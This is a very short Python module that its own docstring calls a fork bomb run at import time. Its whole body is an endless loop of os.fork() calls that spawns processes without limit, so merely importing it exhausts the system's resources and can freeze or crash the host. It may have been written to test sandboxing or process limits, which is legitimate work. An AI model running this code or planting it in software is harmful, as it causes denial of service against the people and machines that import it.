"""Classic fork bomb at import time."""

import os

while True:
    os.fork()
